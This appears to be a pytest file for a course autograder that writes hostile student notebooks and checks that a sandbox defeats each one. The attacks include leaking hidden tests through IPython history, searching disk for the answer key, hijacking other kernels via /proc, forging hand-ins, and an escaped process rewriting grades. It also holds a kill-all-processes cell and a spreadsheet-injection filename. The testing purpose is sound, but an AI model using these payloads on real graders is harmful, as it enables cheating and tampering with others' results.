@@ -1,0 +1,401 @@
+"""Attacks on the grader: a corpus of hostile submissions of the demo lesson, one or more per attack class.
+
+Each attack is graded the three ways the course grades (a local batch, a Dask cluster, Gradescope's
+run_autograder) and must fail honestly: no line of a hidden test or of the key in any feedback or
+results.json, unsolved work scores 0, other students' rows and files unchanged, the key and helpers
+unchanged, the batch complete, no process left behind. `test_the_attacks_work_without_the_sandbox`
+shows that the attacks are real: unsandboxed, the same files read the key, reach other kernels and
+outlive the grader.
+"""
+import csv
+import hashlib
+import json
+import os
+import socket
+import threading
+import time
+from pathlib import Path
+
+import nbformat
+import pytest
+from distributed import LocalCluster
+from nbformat.v4 import new_code_cell
+
+from conftest import ROOT, all_gone, run_gradescope, simulated_autograder, write_lesson
+from course_tools import grading, notebook, rebuild
+
+pytestmark = [pytest.mark.notebooks, pytest.mark.xdist_group("grading_attacks")]
+TIMEOUT = 60
+MARKER = "attack-process-31337"  # in the command line of every process an attack leaves running
+UNSOLVED = ("square-check", "cube-check")
+
+# Reads IPython's input history (hidden tests included, once their cell ran) and puts it where the old
+# grader copied text into the feedback: an assertion message, an exception raised later, a return value
+# whose repr a check prints, and an exception class named after a hidden line.
+HISTORY_LEAK = """
+def history():
+    return "\\n".join(get_ipython().user_ns["In"])
+
+def square(x):
+    raise AssertionError(history())
+
+class Leak:
+    def __repr__(self):
+        return history()
+    def __eq__(self, other):
+        return False
+
+def cube(x):
+    return Leak()
+"""
+HISTORY_LEAK_LATER = """raise type([l for l in history().splitlines() if "hand_in" in l][0][:60], (Exception,), {})(history())"""
+
+# Looks for the answer key on disk wherever a student would: beside the helpers, along sys.path, in
+# Gradescope's source folder, in the temporary folders, from the root down; raises what it finds.
+KEY_READER = """
+import os, sys
+from pathlib import Path
+import time
+import course_tools.handin
+found, deadline = [], time.time() + 10
+places = [Path(course_tools.handin.__file__).parents[1], *map(Path, sys.path), Path("/autograder/source"),
+          Path("/tmp"), Path(os.environ.get("HOME", "/")), *map(Path, {extra!r}), Path("/")]
+for place in places:
+    for folder, dirs, files in os.walk(place):
+        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "lib", "site-packages", ".git")]
+        if time.time() > deadline:
+            break
+        for name in files:
+            if name.endswith((".ipynb", ".json")):
+                try:
+                    text = open(os.path.join(folder, name), errors="replace").read()
+                except OSError:
+                    continue
+                if "BEGIN HIDDEN TESTS" in text or "square of -2" in text:
+                    found.append(os.path.join(folder, name))
+print("KEY FOUND:" if found else "KEY NOT FOUND", sorted(set(found)))
+if found:
+    raise RuntimeError(open(found[0]).read())
+"""
+
+# Makes every failing cell look clean: IPython's traceback display, custom exception handler, excepthook.
+HOOK_PATCH = """
+import sys
+ip = get_ipython()
+ip.showtraceback = lambda *args, **kwargs: None
+ip._showtraceback = lambda *args, **kwargs: None
+ip.showsyntaxerror = lambda *args, **kwargs: None
+ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
+sys.excepthook = lambda *args: None
+"""
+
+# Hands in values itself, for every check, and keeps overwriting the hand-in file from a thread.
+FORGE_HANDINS = """
+import json, os, threading, time
+names = ["square of -2", "square of 1.5", "cube of -1", "cube of 0.5"]
+def forge():
+    for _ in range(200):
+        with open(os.environ.get("COURSE_HANDIN_FILE", "/dev/null"), "a") as out:
+            for name in names:
+                out.write(json.dumps({"name": name, "value": 42}) + "\\n")
+        time.sleep(0.05)
+forge()
+threading.Thread(target=forge, daemon=True).start()
+import course_tools.handin as handin
+handin.hand_in = lambda name, value, **kwargs: None
+hand_in = handin.hand_in
+"""
+
+# Finds the other kernels of the batch, through their connection files and their environment in /proc, and
+# solves their exercises for them: defines the functions before each of their cells, hands in right values.
+KERNEL_PATCHER = """
+import glob, json, os, time
+from ipykernel import get_connection_file
+from jupyter_client import BlockingKernelClient
+SOLVE = \'\'\'
+def _solve(*args, **kwargs):
+    exec("def square(x):\\\\n    return x * x\\\\ndef cube(x):\\\\n    return x ** 3", get_ipython().user_ns)
+get_ipython().events.register("pre_run_cell", _solve)
+\'\'\'
+RIGHT = {"square of -2": 4, "square of 1.5": 2.25, "cube of -1": -1, "cube of 0.5": 0.125}
+mine = os.path.realpath(get_connection_file())
+reached = set()
+deadline = time.time() + 12
+while time.time() < deadline:
+    for path in set(glob.glob("/tmp/*.json")) - {mine}:
+        try:
+            client = BlockingKernelClient(connection_file=path)
+            client.load_connection_file()
+            client.start_channels()
+            client.execute(SOLVE, silent=True)
+            reached.add(path)
+        except Exception:
+            pass
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            environment = dict(item.split("=", 1) for item in open(f"/proc/{pid}/environ").read().split("\\0") if "=" in item)
+        except OSError:
+            continue
+        target = environment.get("COURSE_HANDIN_FILE")
+        if target and target != os.environ.get("COURSE_HANDIN_FILE"):
+            with open(target, "a") as out:
+                out.writelines(json.dumps({"name": name, "value": value}) + "\\n" for name, value in RIGHT.items())
+            reached.add(target)
+    time.sleep(0.2)
+print("PATCHED", len(reached), "kernel(s)")
+"""
+
+# A process that leaves the kernel's process group and session, outlives the grading, and then rewrites
+# the grades, Gradescope's results, other submissions and OUT, and appends to the helpers and the key.
+PERSIST = """
+import json, os, subprocess, sys
+code = '''
+import json, pathlib, sys, time
+targets = json.loads(sys.argv[1])
+for _ in range(100):
+    for path in targets["overwrite"]:
+        try:
+            pathlib.Path(path).write_text("student,status,score\\\\nme,ok,100\\\\n")
+        except OSError:
+            pass
+    for path in targets["append"]:
+        try:
+            with open(path, "a") as out:
+                out.write("\\\\n# tampered\\\\n")
+        except OSError:
+            pass
+    time.sleep(0.1)
+'''
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv(sys.executable, [sys.executable, "-c", code, json.dumps({targets!r}), "{marker}"])
+    os._exit(0)
+subprocess.Popen(["sleep", "600", "{marker}"], start_new_session=True)
+""".replace("{marker}", MARKER)
+
+# Kills every process it can see, its own grader first.
+KILLER = """
+import os, signal
+os.kill(os.getppid(), signal.SIGKILL)
+for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
+    if pid != os.getpid():
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except OSError:
+            pass
+"""
+
+# Sends a message to a server on this machine's loopback.
+NETWORK = """
+import socket
+try:
+    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as connection:
+        connection.sendall(b"leaked")
+    print("CONNECTED")
+except OSError as error:
+    print("NO NETWORK", error)
+"""
+
+
+def add_cell(nb, after, source):
+    nb.cells.insert(next(i for i, c in enumerate(nb.cells) if c.id == after) + 1, new_code_cell(source))
+    return nb
+
+
+def sha(path):
+    return hashlib.sha256(Path(path).read_bytes()).hexdigest()
+
+
+def write_attacks(subs, solution, key_paths, port, targets):
+    """The hostile submissions; returns {student: (status, score)} expected."""
+    solved = notebook.read(solution)
+
+    def save(nb, name):
+        (subs / name).parent.mkdir(parents=True, exist_ok=True)
+        (subs / name).write_text(nbformat.writes(nb), encoding="utf-8")
+
+    def unsolved(*edits):
+        nb = notebook.make_student(solution)
+        for after, source in edits:
+            add_cell(nb, after, source)
+        return nb
+
+    save(unsolved(("ex2", HISTORY_LEAK), ("last", HISTORY_LEAK_LATER)), "history_leak.ipynb")
+    save(unsolved(("parameters", KEY_READER.format(extra=[str(p) for p in key_paths]))), "key_reader.ipynb")
+    save(unsolved(("parameters", HOOK_PATCH)), "hook_patch.ipynb")
+    save(unsolved(("parameters", FORGE_HANDINS)), "forged_handins.ipynb")
+    save(unsolved(("parameters", KERNEL_PATCHER)), "00_kernel_patcher.ipynb")
+    save(unsolved(("parameters", "import time\ntime.sleep(4)  # slow code: the other kernel has time to find it")),
+         "00_victim.ipynb")
+    save(unsolved(("parameters", PERSIST.format(targets=targets))), "persist.ipynb")
+    save(add_cell(notebook.read(solution), "last", KILLER), "killer.ipynb")
+    save(unsolved(("parameters", NETWORK.format(port=port))), "network.ipynb")
+    save(solved, os.fsdecode(b"\xff\xfeundecodable.ipynb"))
+    save(solved, "=cmd|' -C calc'!A0.ipynb")
+    os.symlink(solution, subs / "linked_key.ipynb")
+    return {
+        "00_kernel_patcher": ("error", 0), "00_victim": ("error", 0), "=cmd|' -C calc'!A0": ("ok", 5),
+        "\\xff\\xfeundecodable": ("ok", 5), "forged_handins": ("error", 0), "history_leak": ("error", 0),
+        "key_reader": ("error", 0), "killer": ("error", 5), "linked_key": ("invalid", 0),
+        "hook_patch": ("ok", 0),  # hiding its errors makes its own status look clean, and earns nothing
+        "network": ("error", 0), "persist": ("error", 0),
+    }
+
+
+class Listener:
+    """A TCP server on loopback that counts the connections it receives."""
+
+    def __init__(self):
+        self.server = socket.create_server(("127.0.0.1", 0))
+        self.port = self.server.getsockname()[1]
+        self.connections = 0
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self):
+        while True:
+            try:
+                connection, _ = self.server.accept()
+            except OSError:
+                return
+            self.connections += 1
+            connection.close()
+
+
+def output_of(executed, text):
+    """The outputs, as JSON text, of the cell of an executed notebook whose source holds `text`."""
+    return json.dumps(next(c for c in notebook.read(executed).cells if text in c.source).outputs)
+
+
+def processes_with(marker):
+    found = []
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            if marker.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
+                found.append(int(pid))
+        except OSError:
+            pass
+    return found
+
+
+def snapshot(*folders):
+    """sha256 of every file under the folders (symbolic links as their target's name)."""
+    return {str(p): (os.readlink(p) if p.is_symlink() else sha(p)) for folder in folders
+            for p in sorted(Path(folder).rglob("*")) if p.is_symlink() or p.is_file()}
+
+
+@pytest.fixture(scope="session")
+def attacked(tmp_path_factory):
+    """The corpus graded by a local batch and by a Dask cluster, with what was on disk before."""
+    root = tmp_path_factory.mktemp("attacks")
+    solution = write_lesson(root / "solutions")
+    listener = Listener()
+    outs = {"local": root / "graded", "dask": root / "graded_on_dask"}
+    subs = root / "subs"
+    gradescope = simulated_autograder(root, "00", root / "solutions")
+    helpers = [ROOT / "model_utils.py", ROOT / "course_tools" / "handin.py", ROOT / "course_tools" / "scoring.py",
+               gradescope / "source" / "course_tools" / "handin.py"]
+    targets = {"overwrite": [str(o / "grades.csv") for o in outs.values()] + [str(subs / "00_victim.ipynb")]
+               + [str(o / "pwned.txt") for o in outs.values()] + [str(gradescope / "results" / "results.json")],
+               "append": [str(p) for p in helpers] + [str(solution), str(rebuild.reference_path(solution))]}
+    expected = write_attacks(subs, solution, [root, ROOT], listener.port, targets)
+    before = {"subs": snapshot(subs), "key": snapshot(root / "solutions"), "helpers": {str(p): sha(p) for p in helpers}}
+    results = {"local": {r.student: r for r in grading.grade("00", subs, outs["local"], workers=2, timeout=TIMEOUT,
+                                                            solutions=root / "solutions", progress=lambda *_: None)}}
+    with LocalCluster(n_workers=2, threads_per_worker=1, processes=True, dashboard_address=None) as cluster:
+        results["dask"] = {r.student: r for r in grading.grade("00", subs, outs["dask"], timeout=TIMEOUT,
+                                                              solutions=root / "solutions", scheduler=cluster.scheduler_address,
+                                                              progress=lambda *_: None)}
+    time.sleep(3)  # what an escaped process would write after the grader ended, it would have written by now
+    return dict(root=root, solution=solution, subs=subs, outs=outs, expected=expected, results=results,
+                before=before, helpers=helpers, listener=listener, gradescope=gradescope)
+
+
+def grades(out):
+    with open(out / "grades.csv", newline="", encoding="utf-8") as handle:
+        return {row["student"]: (row["status"], float(row["score"])) for row in csv.DictReader(handle)}
+
+
+@pytest.mark.parametrize("way", ["local", "dask"])
+def test_every_attack_gets_its_honest_grade(attacked, way):
+    out = attacked["outs"][way]
+    got = grades(out)
+    assert got == {spreadsheet_name(s): v for s, v in attacked["expected"].items()}
+    assert sorted(p.name for p in out.iterdir()) == ["batch.json", "executed", "feedback", "grades.csv"]
+
+
+def spreadsheet_name(student):
+    return grading.spreadsheet_safe(student)
+
+
+@pytest.mark.parametrize("way", ["local", "dask"])
+def test_no_feedback_quotes_a_hidden_test_or_a_solution(attacked, way):
+    key = rebuild.load_key(attacked["solution"])
+    texts = [p.read_text(encoding="utf-8") for p in (attacked["outs"][way] / "feedback").iterdir()]
+    leaked = [line for text in texts for line in key.secret_lines if line in text]
+    assert not leaked
+    assert not any("hand_in" in text or "square of" in text for text in texts)
+
+
+def test_the_sandbox_hid_the_key_the_network_and_the_other_kernels(attacked):
+    executed = attacked["outs"]["local"] / "executed"
+
+    assert "KEY NOT FOUND" in output_of(executed / "key_reader.ipynb", "KEY FOUND")
+    assert "NO NETWORK" in output_of(executed / "network.ipynb", "CONNECTED")
+    assert attacked["listener"].connections == 0
+    assert "PATCHED 0 kernel(s)" in output_of(executed / "00_kernel_patcher.ipynb", "PATCHED")
+
+
+def test_nothing_outlives_the_grading_or_changes_what_it_did_not_own(attacked):
+    assert all_gone(processes_with(MARKER))
+    assert snapshot(attacked["subs"]) == attacked["before"]["subs"]
+    assert snapshot(attacked["root"] / "solutions") == attacked["before"]["key"]
+    assert {str(p): sha(p) for p in attacked["helpers"]} == attacked["before"]["helpers"]
+    assert not any(p.name == "pwned.txt" for out in attacked["outs"].values() for p in out.rglob("*"))
+
+
+def test_file_names_are_graded_and_neutralised_for_spreadsheets(attacked):
+    text = (attacked["outs"]["local"] / "grades.csv").read_text(encoding="utf-8")
+    assert "\n'=cmd|' -C calc'!A0,ok,5" in text
+    assert "\n\\xff\\xfeundecodable,ok,5" in text
+    assert "a symbolic link" in attacked["results"]["local"]["linked_key"].problem
+
+
+def test_every_attack_fails_through_run_autograder(attacked):
+    """Gradescope grades one submission at a time: each attack alone, its results.json as it is and 3 s later."""
+    root, key = attacked["gradescope"], rebuild.load_key(attacked["solution"])
+    for path in sorted(attacked["subs"].iterdir()):
+        student = grading.student_name(path.stem)
+        if student.startswith("00_"):
+            continue  # needs two submissions at once, which Gradescope never runs
+        if path.is_symlink():
+            results = run_gradescope(root, "linked.ipynb", link_to=root / "source" / "solutions" / "00_demo.ipynb")
+        else:
+            results = run_gradescope(root, "submission.ipynb", path.read_text(encoding="utf-8"))
+        text = (root / "results" / "results.json").read_text(encoding="utf-8")
+        time.sleep(0.5 if student != "persist" else 3)
+        assert (root / "results" / "results.json").read_text(encoding="utf-8") == text, student
+        assert results["score"] == attacked["expected"][student][1], student
+        assert not [line for line in key.secret_lines if line in text], student
+    assert all_gone(processes_with(MARKER))
+    assert {str(p): sha(p) for p in attacked["helpers"]} == attacked["before"]["helpers"]
+
+
+def test_the_attacks_work_without_the_sandbox(attacked, tmp_path):
+    """Unsandboxed (--unsandboxed), the same code reads the key, reaches the network and patches the other
+    kernel, whose unsolved notebook then scores points: the sandbox, not luck, stops them. (The attacks that
+    kill processes or write files are left out: unsandboxed, they would hit this test run.)"""
+    subs = tmp_path / "subs"
+    subs.mkdir()
+    for name in ("key_reader", "network", "00_kernel_patcher", "00_victim"):
+        (subs / f"{name}.ipynb").write_text((attacked["subs"] / f"{name}.ipynb").read_text(encoding="utf-8"))
+    connections = attacked["listener"].connections
+    results = {r.student: r for r in grading.grade("00", subs, tmp_path / "graded", workers=2, timeout=TIMEOUT,
+                                                  solutions=attacked["root"] / "solutions", unsandboxed=True,
+                                                  progress=lambda *_: None)}
+    executed = tmp_path / "graded" / "executed"
+    assert "KEY FOUND" in output_of(executed / "key_reader.ipynb", "KEY FOUND")
+    assert "CONNECTED" in output_of(executed / "network.ipynb", "CONNECTED")
+    assert attacked["listener"].connections > connections
+    assert "PATCHED 0 kernel(s)" not in output_of(executed / "00_kernel_patcher.ipynb", "PATCHED")
+    assert results["00_victim"].score == 5
